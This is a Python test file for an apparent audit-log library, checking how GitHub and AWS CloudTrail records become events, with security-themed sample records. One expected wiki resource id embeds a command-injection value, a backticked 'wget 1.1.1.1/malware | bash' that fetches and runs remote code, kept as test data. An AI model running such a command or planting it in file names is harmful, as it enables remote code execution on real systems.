"""Foreign records as events: real ones map to what a reader expects, no field is lost, and hostile ones are refused."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from uuid import UUID

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import whodid
from tests.keeping import NOW, Clock
from whodid import Actor, Change, Event, Reason, Resource
from whodid.errors import InvalidEvent
from whodid.export.import_ import cloudtrail, foreign, github
from whodid.export.import_.run import Mapper

DATA = Path(__file__).parent / "data"
UNDATED = datetime(2024, 1, 1, tzinfo=UTC)


def samples(name: str) -> list[dict[str, Any]]:
    """Return the real records of a product, as the product wrote them."""
    lines = (DATA / f"{name}.ndjson").read_text(encoding="utf-8").splitlines()
    return [json.loads(line)["raw"] for line in lines]


def leaves(value: Any) -> Iterator[str]:
    """Yield every value inside a JSON value, as text."""
    if isinstance(value, dict):
        for inner in value.values():
            yield from leaves(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from leaves(inner)
    else:
        yield json.dumps(value)


def of(name: str, number: int) -> Event:
    """Map a sample by its line."""
    mapper: Mapper = github.to_event if name == "github" else cloudtrail.to_event
    event = mapper(samples(name)[number - 1], UNDATED)
    assert event is not None
    return event


ALL = [("github", number) for number in range(1, 28)] + [("cloudtrail", number) for number in range(1, 14)]


@pytest.mark.parametrize(("name", "number"), ALL)
def test_no_value_of_a_real_record_is_lost(name: str, number: int) -> None:
    """Whatever the record says stands somewhere in the event."""
    event = of(name, number)
    said = set(leaves(json.loads(msgspec.json.encode(event))))

    assert [value for value in leaves(samples(name)[number - 1]) if value not in said] == []


@pytest.mark.parametrize(("name", "number"), ALL)
def test_every_real_record_can_be_recorded(name: str, number: int) -> None:
    """Intake lets the event in, and the same record gives the same event again."""
    event = of(name, number)
    with whodid.open("memory://", clock=Clock()) as log:
        assert not log.record("w", event).duplicate
        assert log.record("w", of(name, number)).duplicate
        entry = log.get("w", 0)

    assert entry.action.startswith(("github.", "aws."))
    assert entry.context is not None
    assert entry.context.source == "import"
    assert UUID(event.id).version == 8
    assert UUID(event.id).variant == "specified in RFC 4122"


def test_ids_of_different_records_differ_even_where_the_product_repeats_them() -> None:
    """CloudTrail fixtures share the event id `1`; none of them passes for another."""
    records = samples("cloudtrail")

    assert [record.get("eventID") for record in records].count("1") == 4
    assert len({cloudtrail.to_event(record, UNDATED).id for record in records}) == len(records)


# ------------------------------------------------------------------------------------------------------------- GitHub


def test_github_audit_log() -> None:
    """An audit log record: actor and resource with their numbers as ids, country, before and after."""
    event = of("github", 27)

    assert event.action == "github.repository_ruleset.update"
    assert event.kind == "update"
    assert event.actor == Actor(type="user", id="999999999", name="dog")
    assert event.resource == Resource(type="ruleset", id="1082915", name="Name of org-wide ruleset")
    assert [(one.type, one.id, one.name) for one in event.related] == [
        ("organization", "12345678", "some-org"),
        ("enterprise", "12345", "bizname"),
    ]
    assert event.changes == (Change(path="ruleset_enforcement", before="evaluate", after="disabled"),)
    assert event.context is not None
    assert event.context.country == "US"
    assert (event.context.user_agent or "").startswith("Mozilla/5.0")
    assert "user_agent" not in (event.details or {})


@pytest.mark.parametrize(
    ("number", "action", "kind", "actor", "resource"),
    [
        (1, "github.protected_branch.policy_override", "security", "cat", ("repository", "my-org/my-repo")),
        (2, "github.workflow_run.requested", "status", "unknown", ("workflow_run", "87654321")),
        (3, "github.comment.created", "create", "malicious-user", ("comment", "123456")),
        (4, "github.repository.pushed", "update", "developer", ("repository", "org/repo")),
        (5, "github.issue.opened", "create", "suspicious-user", ("issue", "target-org/repo#123")),
        (6, "github.pull_request.opened", "create", "malicious-user", ("pull_request", "target-org/main-repo#123")),
        (7, "github.organization_moderators.add_user", "create", "sarah78", ("user", "john1987")),
        (8, "github.team.destroy", "delete", "cat", ("team", "my-org/my-team")),
        (9, "github.integration_installation.create", "create", "user_name", ("app", "Microsoft Teams for GitHub")),
        (10, "github.hook.create", "create", "cat", ("hook", "111222333444555")),
        (16, "github.org.update_member", "update", "cat", ("user", "bob")),
        (17, "github.workflows.created_workflow_run", "create", "12345678", ("workflow_run", "123456789")),
        (24, "github.repository.pushed", "update", "unknown", ("repository", "org/repo")),
        (25, "github.wiki.created", "create", "attacker", ("wiki", "index`wget 1.1.1.1/malware | bash`.html")),
        (26, "github.invite_member", "create", "cat", ("repository", "my-org/my-repo")),
    ],
)
def test_github_names(number: int, action: str, kind: str, actor: str, resource: tuple[str, str]) -> None:
    """Audit log records and webhook payloads get names that a reader can filter by."""
    event = of("github", number)

    assert (event.action, event.kind) == (action, kind)
    assert (event.resource.type, event.resource.id) == resource
    assert event.actor.id == actor


def test_a_bot_is_no_user() -> None:
    """What an app did is told apart from what a person did."""
    assert of("github", 17).actor == Actor(type="system", id="12345678", name="github-actions[bot]")


def test_an_address_of_the_identity_provider_is_the_actors() -> None:
    """Single sign-on knows the person behind the login."""
    assert of("github", 21).actor.email == "badger@acme.com"


# --------------------------------------------------------------------------------------------------------- CloudTrail


def test_cloudtrail_call() -> None:
    """A call by a role's session: the session as actor with the role, the parameter as resource, the account beside."""
    event = of("cloudtrail", 3)

    assert event.action == "aws.bedrock.delete_model_invocation_logging_configuration"
    assert event.kind == "delete"
    assert event.actor == Actor(type="user", id="AROAQWERQWERQWERQWER:dr.evil", name="dr.evil", role="DevAdmin")
    assert event.resource == Resource(type="account", id="123123123123")
    assert event.occurred_at == datetime(2025, 1, 21, 17, 49, 47, tzinfo=UTC)
    assert event.context is not None
    assert event.context.ip == "161.97.249.211"
    assert event.context.request == "7b9b25ca-be2d-4428-9793-0a677c32b823"
    assert {"sourceIPAddress", "userAgent", "requestID"}.isdisjoint(event.details or {})


@pytest.mark.parametrize(
    ("number", "action", "kind", "outcome"),
    [
        (1, "aws.ec2.modify_image_attribute", "update", "success"),
        (2, "aws.lambda.add_permission", "create", "success"),
        (4, "aws.organizations.leave_organization", "delete", "denied"),
        (5, "aws.signin.console_login", "security", "failed"),
        (6, "aws.cloudtrail.stop_logging", "status", "success"),
        (7, "aws.ec2_instance_connect.send_ssh_public_key", "update", "success"),
        (8, "aws.ec2.modify_instance_attribute", "update", "success"),
        (9, "aws.iam.attach_user_policy", "update", "success"),
        (10, "aws.iam.create_user", "create", "success"),
        (11, "aws.ec2.describe_instances", "security", "success"),
        (12, "aws.ec2.terminate_instances", "delete", "success"),
        (13, "aws.rds.modify_db_instance", "update", "success"),
    ],
)
def test_cloudtrail_names(number: int, action: str, kind: str, outcome: str) -> None:
    """Service and call make the action, its first word the kind, its error the outcome."""
    event = of("cloudtrail", number)

    assert (event.action, event.kind, event.outcome) == (action, kind, outcome)


def test_a_denied_call_says_why() -> None:
    """Error code and message are the reason, and the severity is raised."""
    event = of("cloudtrail", 4)

    assert event.severity == "warning"
    assert event.reason is not None
    assert event.reason.code == "AccessDenied"
    assert {"errorCode", "errorMessage"}.isdisjoint(event.details or {})


def test_a_service_is_a_provider_and_the_root_user_is_noticed() -> None:
    """Who calls: AWS itself, or the account's root user."""
    base = {"eventName": "DescribeInstances", "eventSource": "ec2.amazonaws.com", "eventTime": "2024-01-01T00:00:00Z"}
    service = cloudtrail.to_event({**base, "userIdentity": {"type": "AWSService", "invokedBy": "ec2.amazonaws.com"}})
    root = cloudtrail.to_event({**base, "userIdentity": {"type": "Root", "accountId": "1", "principalId": "1"}})

    assert service.actor == Actor(type="provider", id="ec2.amazonaws.com", name="ec2.amazonaws.com")
    assert (root.actor.name, root.severity) == ("root", "warning")


def test_resources_are_found_by_arn_and_by_parameter() -> None:
    """The resource is what the call was about; what else it touched is related."""
    event = cloudtrail.to_event(
        {
            "eventName": "GetBucketAcl",
            "eventSource": "s3.amazonaws.com",
            "@timestamp": "2024-01-01T00:00:00.000Z",
            "requestParameters": {"bucketName": "photos", "Host": "x"},
            "recipientAccountId": "123",
            "resources": [{"type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::photos"}],
        }
    )

    assert event.resource == Resource(type="bucket", id="arn:aws:s3:::photos", name="photos")
    assert [(one.type, one.id) for one in event.related] == [("account", "123")]
    assert event.occurred_at == datetime(2024, 1, 1, tzinfo=UTC)


def test_a_call_on_several_instances_names_each() -> None:
    """The instances are found in the parameters, or in the answer when the call made them."""
    made = {"instancesSet": {"items": [{"instanceId": "i-1"}, {"instanceId": "i-2"}]}}
    base = {"eventSource": "ec2.amazonaws.com", "eventTime": 0}
    ended = cloudtrail.to_event({**base, "eventName": "TerminateInstances", "requestParameters": made})
    begun = cloudtrail.to_event(
        {
            **base,
            "eventName": "RunInstances",
            "requestParameters": {"instancesSet": {"items": [{"imageId": "ami-1"}]}},
            "responseElements": made,
        }
    )

    for event in (ended, begun):
        assert event.resource == Resource(type="instance", id="i-1")
        assert [one.id for one in event.related] == ["i-2"]


# ------------------------------------------------------------------------------------------------------------ refusals


def test_a_record_without_a_time_needs_one() -> None:
    """Nobody invents when something happened; whoever imports may say it."""
    record = samples("github")[9]
    with pytest.raises(InvalidEvent, match="--undated") as caught:
        github.to_event(record)

    assert caught.value.pointer == "/occurred_at"
    assert github.to_event(record, UNDATED).occurred_at == UNDATED


@pytest.mark.parametrize("mapper", [github.to_event, cloudtrail.to_event])
@pytest.mark.parametrize("record", [{}, {"hello": "world"}, {"action": 7}, {"eventName": ""}])
def test_what_is_no_record_of_the_product_is_refused(mapper: Mapper, record: dict[str, Any]) -> None:
    """A wrong --from is told at once, not recorded as nonsense."""
    with pytest.raises(InvalidEvent, match="--from"):
        mapper(record, UNDATED)


# ------------------------------------------------------------------------------------------------------- small helpers


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (1621305118553, "2021-05-18T02:31:58.553+00:00"),
        (1621305118553.0, "2021-05-18T02:31:58.553+00:00"),
        ("1621305118553", "2021-05-18T02:31:58.553+00:00"),
        (1621305118, "2021-05-18T02:31:58+00:00"),
        ("2022-12-11 05:17:28.078", "2022-12-11T05:17:28.078+00:00"),
        ("2025-10-15 18:41:19.605000000", "2025-10-15T18:41:19.605+00:00"),
        ("2023-01-31T18:58:27.000Z", "2023-01-31T18:58:27+00:00"),
        ("2023-01-31T18:58:27+05:30", "2023-01-31T13:28:27+00:00"),
        ("2024-05-01", "2024-05-01T00:00:00+00:00"),
        ("2024-12-17 00:00:00000000", None),
        ("yesterday", None),
        ("", None),
        (None, None),
        (True, None),
        ([], None),
        (10**30, None),
        (float("1e300"), None),
        ("9" * 40, None),
    ],
)
def test_times_as_others_write_them(value: object, expected: str | None) -> None:
    """Seconds, milliseconds and ISO 8601; what cannot be read is not guessed."""
    at = foreign.read_time(value)

    assert (at.isoformat() if at else None) == (
        datetime.fromisoformat(expected).isoformat() if expected is not None else None
    )


@pytest.mark.parametrize(
    ("parts", "name"),
    [
        (("aws", "s3", "ListObjectsV2"), "aws.s3.list_objects_v2"),
        (("aws", "ec2", "DescribeVPCs"), "aws.ec2.describe_vpcs"),
        (("aws", "rds", "ModifyDBInstance"), "aws.rds.modify_db_instance"),
        (("aws", "iam", "ListMFADevices"), "aws.iam.list_mfa_devices"),
        (("github", "org", "2fa.enable"), "github.org.x2fa_enable"),
        (("github", "", "push"), "github.push"),
        (("aws", "iam", "Größe ändern"), "aws.iam.gr_e_ndern"),
    ],
)
def test_action_names(parts: tuple[str, ...], name: str) -> None:
    """Whatever a product calls it, the action has the form that intake wants."""
    assert foreign.action_name(*parts) == name


def test_a_long_action_name_is_shortened_and_stays_its_own() -> None:
    """Two long names do not become one."""
    first, second = (foreign.action_name("aws", "x", "Describe" + "A" * 200 + end) for end in "XY")

    assert first != second
    assert len(first) <= 100


def test_what_does_not_fit_is_kept_as_text() -> None:
    """Numbers, depth, sizes and characters beyond the limits of an event are rewritten, not dropped."""
    deep: Any = "bottom"
    for _ in range(30):
        deep = {"in": deep}
    fitted = foreign.fit(
        {
            "huge": 2**70,
            "tiny": 1e-9,
            "vast": 1e30,
            "nul": "a\0b\ud800",
            "long": "x" * 70_000,
            "deep": deep,
            "many": {str(number): number for number in range(300)},
            "odd": {"bad\nname": 1},
        }
    )

    assert fitted["huge"] == str(2**70)
    assert (fitted["tiny"], fitted["vast"]) == ("1e-09", "1e+30")
    assert fitted["nul"] == "a\\u0000b\\ud800"
    assert "".join(fitted["long"]) == "x" * 70_000
    assert "bottom" in json.dumps(fitted["deep"])
    assert json.loads(fitted["many"])["299"] == 299
    assert json.loads(fitted["odd"]) == {"bad\nname": 1}


def test_a_reason_keeps_a_message_that_is_too_long_in_the_details() -> None:
    """What does not fit its field is not cut."""
    event = cloudtrail.to_event(
        {"eventName": "X", "eventSource": "s", "eventTime": 1, "errorCode": "Oops", "errorMessage": "m" * 5_000}
    )

    assert event.reason == Reason(code="Oops")
    assert (event.details or {})["errorMessage"] == "m" * 5_000


# -------------------------------------------------------------------------------------------------------- any JSON

_KEYS = st.sampled_from(
    [
        *("action", "actor", "actor_id", "actor_ip", "actor_location", "country_code", "user", "repo", "repository"),
        *("org", "org_id", "business", "data", "created_at", "@timestamp", "user_agent", "request_id", "hook_id"),
        *(
            "old_name",
            "name",
            "commits",
            "pull_request",
            "issue",
            "comment",
            "number",
            "title",
            "sender",
            "login",
            "ref",
        ),
        *("eventName", "eventSource", "eventTime", "eventID", "userIdentity", "type", "arn", "principalId", "userName"),
        *("sessionContext", "sessionIssuer", "invokedBy", "resources", "ARN", "requestParameters", "bucketName"),
        *("responseElements", "ConsoleLogin", "errorCode", "errorMessage", "sourceIPAddress", "userAgent", "requestID"),
        *("recipientAccountId", "readOnly", "operation_type", "_document_id", "external_identity_nameid", "pages"),
    ]
)
_TEXTS = st.one_of(
    st.text(max_size=12),
    st.text(st.characters(), max_size=4),
    st.sampled_from(["org.add_member", "hook.create", "ConsoleLogin", "Root", "AWSService", "x" * 600, "a@b.c", "::1"]),
)
_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | _TEXTS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.one_of(_KEYS, _TEXTS), inner, max_size=6),
    max_leaves=25,
)
_RECORDS = st.dictionaries(st.one_of(_KEYS, _TEXTS), _VALUES, max_size=14)


@settings(max_examples=300, deadline=None)
@given(_RECORDS, st.sampled_from([github.to_event, cloudtrail.to_event]))
def test_any_record_is_mapped_to_what_can_be_recorded_or_refused(record: dict[str, Any], mapper: Mapper) -> None:
    """Whatever stands in a file: a refusal with a reason, or an event that intake lets in; never a crash."""
    try:
        event = mapper(record, NOW)
    except InvalidEvent:
        return
    assert event is not None
    event = msgspec.structs.replace(event, occurred_at=NOW)
    with whodid.open("memory://", clock=Clock()) as log:
        log.record("w", event)
